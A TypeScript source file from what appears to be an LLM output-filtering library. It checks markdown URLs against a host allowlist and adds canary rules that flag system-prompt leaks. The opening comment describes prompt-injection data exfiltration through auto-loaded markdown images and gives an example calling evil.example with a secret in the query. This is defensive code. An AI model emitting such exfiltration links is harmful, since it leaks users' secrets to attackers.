// Output exfiltration checks (OWASP LLM05): a model steered by injected content can leak data through markdown
// that a chat UI renders — an image is fetched with no click (`![x](https://evil.example/?q=<secret>)`), a link or a
// bare URL carries data in its URL, raw HTML can load resources or run script. What counts as a link, an image or
// raw HTML is decided by markdown-it (markdown.ts, markdown-parse.ts, markdown-html.ts); this file holds the URL
// policy (allowlist), the mode and the canary rules.
import type { ExfilPolicy } from './markdown.ts';
import { redactionMarker, regexRule, type Rule } from './rules.ts';

export type ExfiltrationMode = 'off' | 'flag' | 'neutralize' | 'block';

const SAFE_SCHEMES = new Set(['mailto', 'tel']);

/** Host allowlist entries: `docs.example.com` (exact) or `*.example.com` (any subdomain, not the apex). */
export function hostAllowed(host: string, allowed: readonly string[]): boolean {
  const h = host.toLowerCase().replace(/\.$/, '');
  for (const raw of allowed) {
    const a = raw.toLowerCase().replace(/\.$/, '');
    if (a.startsWith('*.') ? h.endsWith(a.slice(1)) && h.length > a.length - 1 : h === a) return true;
  }
  return false;
}

/** Whether a URL in output may stay as it is. Relative URLs stay (they resolve to the page's own origin). */
export function urlAllowed(rawUrl: string, allowed: readonly string[]): boolean {
  const url = rawUrl.trim().replace(/^<|>$/g, '');
  // browsers ignore ASCII whitespace and control characters inside a scheme ("java\tscript:")
  // eslint-disable-next-line no-control-regex
  const compact = url.replace(/[\x00-\x20]/g, '');
  const scheme = /^([a-zA-Z][a-zA-Z0-9+.-]*):/.exec(compact)?.[1]?.toLowerCase();
  if (scheme === undefined) {
    if (!compact.startsWith('//') && !compact.startsWith('\\\\') && !compact.startsWith('/\\')) return true;
    return hostOf(`https:${compact.replace(/\\/g, '/')}`, allowed);
  }
  if (SAFE_SCHEMES.has(scheme)) return true;
  if (scheme !== 'http' && scheme !== 'https') return false;
  return hostOf(compact, allowed);
}

function hostOf(url: string, allowed: readonly string[]): boolean {
  try {
    return hostAllowed(new URL(url).hostname, allowed);
  } catch {
    return false;
  }
}

/** The exfiltration stage's policy for a mode (undefined in mode off). The stage itself is markdown.ts. */
export function exfiltrationPolicy(mode: ExfiltrationMode, allowedHosts: readonly string[]): ExfilPolicy | undefined {
  if (mode === 'off') return undefined;
  return { rewrite: mode !== 'flag', urlBad: (url) => !urlAllowed(url, allowedHosts) };
}

/** Canaries: strings planted in a system prompt; seeing one in output means the prompt leaked. Case-insensitive. */
export function canaryRules(canaries: readonly string[]): Rule[] {
  return canaries.filter((c) => c.length > 0).map((c) => regexRule({
    name: 'canary', kind: 'canary',
    pattern: `(?i)${c.replace(/[\\^$.|?*+()[\]{}]/g, '\\$&')}`,
    replace: () => redactionMarker('canary'),
  }));
}
